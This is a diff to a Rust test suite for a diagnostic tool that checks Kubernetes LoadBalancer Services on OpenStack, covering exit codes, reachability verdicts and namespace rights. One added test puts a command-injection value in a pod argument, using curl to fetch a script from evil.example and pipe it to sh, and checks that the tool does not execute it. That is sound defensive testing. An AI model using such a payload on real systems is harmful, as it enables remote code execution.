@@ -25,7 +25,18 @@ async fn served_with(annotations: Value) -> Stage {
         process.end().await;
     }
     stage.cloud.settle();
+    lead(&stage);
     stage
+}
+
+/// The Lease as a controller at work has it, so that nothing is mended meanwhile.
+fn lead(stage: &Stage) {
+    let lease = stage.kube.get("leases", "kube-system", "cloud-controller-manager").unwrap();
+    let record = lease["metadata"]["annotations"]["cloud-controller-manager.openstack.org/leader"].as_str();
+    let record: Value = serde_json::from_str(record.unwrap()).unwrap();
+    let spec = json!({"holderIdentity": record["identity"], "leaseDurationSeconds": 3600,
+        "renewTime": format!("{:.6}", jiff::Timestamp::now())});
+    stage.kube.patch("leases", "kube-system", "cloud-controller-manager", &json!({"spec": spec})).unwrap();
 }
 
 /// The Service, its pod with its configuration, and the configuration of CoreDNS.
@@ -41,7 +52,8 @@ fn cluster(stage: &Stage) {
             "data": {"use-proxy-protocol": "true"}}),
         json!({"apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice", "addressType": "IPv4",
             "metadata": {"name": "web-1", "labels": {"kubernetes.io/service-name": "web"}},
-            "endpoints": [{"addresses": ["10.244.1.7"], "conditions": {"ready": true}}], "ports": []}),
+            "endpoints": [{"addresses": ["10.244.1.7"], "conditions": {"ready": true}}],
+            "ports": [{"name": "", "port": 80, "protocol": "TCP"}]}),
         json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "coredns", "namespace": "kube-system"},
             "data": {"Corefile": ".:53 {\n    kubernetes cluster.local\n}\n"}}),
     ];
@@ -115,11 +127,11 @@ async fn a_healthy_service_shows_no_finding_and_nothing_is_written() {
     assert_eq!(code, 0, "{output}");
     assert!(
         output.contains(
-            "from a pod, from a node or from outside reaches the application through the load balancer."
+            "from pods, nodes and outside: should reach the application through the load balancer (no packet sent)."
         ),
         "{output}"
     );
-    assert!(output.contains("0 errors, 0 warnings, ") && output.ends_with(", 0 not looked at\n"), "{output}");
+    assert!(output.contains("0 errors, 0 warnings, ") && output.ends_with(", 0 unknown\n"), "{output}");
     assert_eq!(version(&stage), before);
     let calls = stage.cloud.log().calls().split_off(calls);
     let writes: Vec<String> = calls
@@ -144,10 +156,11 @@ async fn each_fault_is_named_by_its_code() {
         stage.kube.get("services", "default", "web").unwrap()["status"]["loadBalancer"]["ingress"][0]["ip"]
             .clone();
     status(json!({"ip": ip, "ipMode": "VIP"}));
-    assert_eq!((codes(&stage).0, codes(&stage).1), (1, vec!["D201".to_owned()]));
+    assert_eq!((codes(&stage).0, codes(&stage).1), (2, vec!["D201".to_owned()]));
     let (_, _, report) = codes(&stage);
-    assert_eq!(report["services"][0]["ends"][0]["hop"], json!("status"));
-    assert_eq!(report["services"][0]["ends"][2]["result"], json!("arrives"));
+    let conclusion = &report["services"][0]["conclusion"];
+    assert_eq!((&conclusion[0]["verdict"], &conclusion[0]["hop"]), (&json!("ends"), &json!(2)));
+    assert_eq!(conclusion[2]["verdict"], json!("should-reach"));
     status(json!({"ip": ip, "ipMode": "Proxy"}));
 
     let kubelet = |version: &str| {
@@ -253,17 +266,24 @@ async fn what_cannot_be_looked_at_is_unknown_and_never_green() {
     let stage = served().await;
     let (code, output) = doctor(&stage, &["default/web", "--no-cloud"]);
     assert_eq!(code, 0, "{output}");
-    assert!(output.contains("? unknown: the cloud was not looked at: --no-cloud"), "{output}");
-    assert!(output.contains("may or may not arrive"), "{output}");
+    assert!(
+        output.contains("? not checked: status, load balancer, header, members (--no-cloud)"),
+        "{output}"
+    );
+    assert!(output.contains("not known: status, load balancer, header and members"), "{output}");
+    let (code, output) = doctor(&stage, &["default/web"]);
+    assert!(code == 3 && output.contains("(no --cloud-config)"), "{code} {output}");
     stage.kube.inject(Fault::on("GET", "networkpolicies").fail(
         403,
         "Forbidden",
         "networkpolicies is forbidden",
     ));
     let (code, output) = doctor(&stage, &["default/web", "--no-cloud", "-o", "short"]);
-    assert_eq!(code, 2, "{output}");
+    assert_eq!(code, 3, "{output}");
     assert!(
-        output.contains("? unknown: NetworkPolicies cannot be read: ") && !output.contains('√'),
+        output.contains("NetworkPolicies cannot be read: networkpolicies is forbidden")
+            && !output.contains('√')
+            && !output.contains("Status {"),
         "{output}"
     );
 }
@@ -272,13 +292,13 @@ async fn what_cannot_be_looked_at_is_unknown_and_never_green() {
 async fn who_cannot_look_at_all_reads_why() {
     let mut stage = Stage::without_cloud().await;
     let (code, output) = doctor(&stage, &["default/web"]);
-    assert!(code == 2 && output.contains("there is no Service default/web"), "{output}");
+    assert!(code == 1 && output.contains("there is no Service default/web"), "{output}");
     cluster_without_cloud(&stage);
     let (code, output) = with_cloud(&stage, &["default/web", "-o", "short"]);
-    assert!(code == 1 && output.contains("unknown: the cloud was not looked at: "), "{code} {output}");
+    assert!(code == 2 && output.contains("? not checked: load balancer, "), "{code} {output}");
     stage.stop_kubernetes();
     let (code, output) = doctor(&stage, &["-A"]);
-    assert!(code == 2 && output.contains("the Services of the cluster cannot be read"), "{output}");
+    assert!(code == 1 && output.contains("the Services of the cluster cannot be read"), "{output}");
 }
 
 fn cluster_without_cloud(stage: &Stage) {
@@ -296,7 +316,8 @@ async fn it_needs_neither_openstack_nor_openstack_ccm() {
     let status = json!({"status": {"loadBalancer": {"ingress": [{"ip": "203.0.113.10"}]}}});
     stage.kube.patch_status("services", "default", "web", &status).unwrap();
     let (code, output) = doctor(&stage, &["default/web", "--no-cloud"]);
-    assert!(code == 1 && output.contains("[D201]"), "{output}");
+    assert!(code == 2 && output.contains("[D201]"), "{output}");
+    assert!(output.contains("ip-mode-overlay") && !output.contains("loadbalancer.openstack.org"), "{output}");
     assert!(output.contains("do-loadbalancer-enable-proxy-protocol: true"), "{output}");
 }
 
@@ -327,10 +348,10 @@ async fn rules_of_a_node_are_read_from_a_file_or_a_pipe() {
     assert!(code == 0 && output.contains("to a pod: 10.244.1.7:8080, 10.244.2.8:8080"), "{output}");
     let (code, output) = rules("203.0.113.10:443", &["--needs-load-balancer", "-o", "json"]);
     let object: Value = serde_json::from_str(&output).unwrap();
-    assert_eq!((code, &object["findings"][0]["code"]), (1, &json!("D302")));
+    assert_eq!((code, &object["findings"][0]["code"]), (2, &json!("D302")));
     assert_eq!(object["fate"]["verdict"], json!("to-pod"));
     let (code, output) = rules("203.0.113.10:443", &["--mode", "ipvs"]);
-    assert!(code == 1 && output.contains("[D303]"), "{output}");
+    assert!(code == 2 && output.contains("[D303]"), "{output}");
 }
 
 /// The pods go again when nobody runs them.
@@ -339,11 +360,176 @@ async fn live_pods_are_removed_whatever_happens_and_nothing_is_done_unasked() {
     let stage = served().await;
     let (code, output) =
         doctor(&stage, &["default/web", "--no-cloud", "--live", "--image=example.org/ccm:1"]);
-    assert!(code == 2 && output.contains("say so with --yes"), "{output}");
+    assert!(code == 1 && output.contains("say so with --yes"), "{output}");
     let all =
         ["default/web", "--no-cloud", "--live", "--yes", "--image=example.org/ccm:1", "--live-timeout=1s"];
     let (_, output) = doctor(&stage, &all);
     assert!(output.contains("nobody dialled"), "{output}");
     assert!(stage.kube.get("namespaces", "", "openstack-ccm-doctor").is_err(), "it is removed");
     assert!(stage.kube.list("pods", "openstack-ccm-doctor").unwrap().is_empty());
+}
+
+/// What kubectl takes, doctor takes.
+#[tokio::test(flavor = "multi_thread")]
+async fn services_are_named_as_for_kubectl() {
+    let stage = served().await;
+    let forms: [&[&str]; 7] = [
+        &["default/web"],
+        &["svc/web", "-n", "default"],
+        &["-n", "default", "web"],
+        &["web"],
+        &[],
+        &["-n", "default"],
+        &["--all-namespaces"],
+    ];
+    for form in forms {
+        let (code, output) = with_cloud(&stage, form);
+        assert!(code == 0 && output.contains("default/web ("), "{form:?}: {code} {output}");
+    }
+    let (code, output) = with_cloud(&stage, &["-n", "other"]);
+    assert!(code == 0 && !output.contains("default/web"), "{code} {output}");
+    let (_, output) = with_cloud(&stage, &["web", "-o", "yaml"]);
+    // How far it is comes before, on a loaded machine.
+    let start = output.find("counts:").unwrap();
+    let report: Value = serde_saphyr::from_str(&output[start..]).unwrap();
+    assert_eq!(report["services"][0]["conclusion"][2]["verdict"], json!("should-reach"));
+}
+
+/// Whoever may read a namespace sees what is in it.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_rights_in_a_namespace_are_enough_for_its_services() {
+    let stage = served().await;
+    stage.kube.inject(Fault::on("GET", "services").fail(403, "Forbidden", "services is forbidden").times(1));
+    let (_, output) = with_cloud(&stage, &["-n", "default", "web"]);
+    assert!(output.contains("default/web (") && output.contains("√ published: "), "{output}");
+}
+
+/// Each of them is an outage that its objects show; packets do not arrive, and doctor says where they end.
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_disabled_detached_or_somebody_elses_is_never_green() {
+    let stage = served().await;
+    let user = stage.cloud.user();
+    let put = |path: &str, body: Value| {
+        let (status, answer) = user.put("load-balancer", path, &body);
+        assert!(status < 300, "{status} {answer}");
+        stage.cloud.settle();
+    };
+    let outside = || {
+        let report = codes(&stage).2;
+        let conclusion = &report["services"][0]["conclusion"][2];
+        (conclusion["verdict"].as_str().unwrap().to_owned(), conclusion["hop"].as_u64().unwrap_or(99))
+    };
+    let ends = |hop: u64| ("ends".to_owned(), hop);
+    let well = ("should-reach".to_owned(), 99);
+    assert_eq!(outside(), well);
+    let listener = stage.cloud.listeners()[0].clone();
+    let id = |object: &Value| object["id"].as_str().unwrap().to_owned();
+    let pool = listener["default_pool_id"].as_str().unwrap().to_owned();
+    let balancer = listener["loadbalancers"][0]["id"].as_str().unwrap().to_owned();
+    for (path, root) in [
+        (format!("/v2.0/lbaas/loadbalancers/{balancer}"), "loadbalancer"),
+        (format!("/v2.0/lbaas/listeners/{}", id(&listener)), "listener"),
+        (format!("/v2.0/lbaas/pools/{pool}"), "pool"),
+    ] {
+        put(&path, json!({root: {"admin_state_up": false}}));
+        assert_eq!(outside(), ends(5), "{root}");
+        put(&path, json!({root: {"admin_state_up": true}}));
+        assert_eq!(outside(), well, "{root}");
+    }
+    let members: Vec<String> = stage.cloud.members(&pool).iter().map(id).collect();
+    for (off, on) in [
+        (json!({"admin_state_up": false}), json!({"admin_state_up": true})),
+        (json!({"weight": 0}), json!({"weight": 1})),
+    ] {
+        let all = |change: &Value| {
+            for member in &members {
+                put(&format!("/v2.0/lbaas/pools/{pool}/members/{member}"), json!({"member": change}));
+            }
+        };
+        all(&off);
+        assert_eq!(outside(), ends(7), "{off}");
+        all(&on);
+        assert_eq!(outside(), well, "{off}");
+    }
+    let status = |entry: &Value| {
+        let status = json!({"status": {"loadBalancer": {"ingress": [entry]}}});
+        stage.kube.patch_status("services", "default", "web", &status).unwrap();
+    };
+    let service = stage.kube.get("services", "default", "web").unwrap();
+    let entry = service["status"]["loadBalancer"]["ingress"][0].clone();
+    status(&json!({"ip": "198.19.0.199", "ipMode": "Proxy"}));
+    assert_eq!(outside(), ends(2));
+    status(&json!({"hostname": "198.19.0.199.nip.io"}));
+    assert_ne!(outside(), well);
+    status(&entry);
+    let slice = |ports: Value| {
+        stage.kube.patch("endpointslices", "default", "web-1", &json!({"ports": ports})).unwrap();
+    };
+    slice(json!([{"name": "other", "port": 80, "protocol": "TCP"}]));
+    assert_eq!(outside(), ends(8));
+    slice(json!([{"name": "", "port": 80, "protocol": "TCP"}]));
+    let policy = json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
+        "metadata": {"name": "closed", "namespace": "default"},
+        "spec": {"podSelector": {}, "policyTypes": ["Ingress"]}});
+    stage.kube.create(&policy).unwrap();
+    assert_eq!(outside(), ("may-end".to_owned(), 8));
+    stage.kube.delete("networkpolicies", "default", "closed").unwrap();
+    assert_eq!(outside(), well);
+    let floating = user.get("network", "/v2.0/floatingips").1["floatingips"][0].clone();
+    let path = format!("/v2.0/floatingips/{}", id(&floating));
+    assert_eq!(user.put("network", &path, &json!({"floatingip": {"port_id": null}})).0, 200);
+    assert_eq!(outside(), ends(5));
+    assert_eq!(user.delete("network", &path).0, 204);
+    assert_eq!(outside(), ends(5));
+}
+
+/// The first question of everybody who waits for an address.
+#[tokio::test(flavor = "multi_thread")]
+async fn without_a_controller_doctor_says_so() {
+    let stage = served().await;
+    let lease = json!({"spec": {"holderIdentity": ""}});
+    stage.kube.patch("leases", "kube-system", "cloud-controller-manager", &lease).unwrap();
+    assert_eq!(codes(&stage).1, ["D002"]);
+    let empty = json!({"status": {"loadBalancer": {"ingress": []}}});
+    stage.kube.patch_status("services", "default", "web", &empty).unwrap();
+    let (code, found, _) = codes(&stage);
+    assert!(
+        code == 2 && found.contains(&"D001".to_owned()) && found.contains(&"D206".to_owned()),
+        "{found:?}"
+    );
+}
+
+/// Whoever may run a pod may write its arguments.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_argument_of_a_pod_is_no_part_of_a_command() {
+    let stage = served().await;
+    stage.kube.delete("pods", "default", "nginx-1").unwrap();
+    let pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "nginx-1", "labels": {"app": "nginx"}},
+        "spec": {"containers": [{"image": "registry.example.org/ingress-nginx/controller:v1.15.1",
+            "args": ["/nginx-ingress-controller", "--configmap=default/nginx?$(curl${IFS}evil.example|sh)"]}]}});
+    stage.kube.create(&pod).unwrap();
+    let (code, output) = with_cloud(&stage, &["web", "-o", "json"]);
+    assert!(code == 3 && !output.contains("curl"), "{code} {output}");
+}
+
+/// Many Services cost lists, not calls for each.
+#[tokio::test(flavor = "multi_thread")]
+async fn many_services_are_looked_at_by_lists() {
+    let stage = served().await;
+    for number in 0..30 {
+        let service = json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": format!("s{number}")},
+            "spec": {"type": "LoadBalancer", "selector": {"app": "nginx"}, "ports": [{"port": 80}]}});
+        stage.kube.create(&service).unwrap();
+    }
+    let before = stage.kube.requests().len();
+    let (code, output) = with_cloud(&stage, &["-A", "-o", "short"]);
+    assert_eq!(code, 2, "{output}");
+    let mut lists = std::collections::BTreeMap::<String, usize>::new();
+    for request in stage.kube.requests().split_off(before) {
+        *lists.entry(request.path.split('?').next().unwrap_or_default().to_owned()).or_default() += 1;
+    }
+    let most = lists.iter().max_by_key(|(_, count)| **count).unwrap();
+    assert!(*most.1 <= 5, "{most:?}");
+    assert!(output.contains("in 30 Services: default/s0, "), "{output}");
+    assert!(output.contains("31 Services: 1 reach or should reach their application"), "{output}");
 }
